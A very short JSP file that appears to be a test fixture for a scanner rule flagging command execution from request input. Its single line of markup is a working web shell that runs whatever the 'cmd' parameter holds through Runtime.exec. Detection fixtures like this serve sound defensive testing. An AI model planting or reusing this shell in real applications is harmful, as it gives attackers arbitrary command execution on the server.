<%-- expect rule=jsp.exec-input min=85 --%>
<html><body>${pageContext.setAttribute("r", Runtime.getRuntime().exec(param["cmd"]))}</body></html>
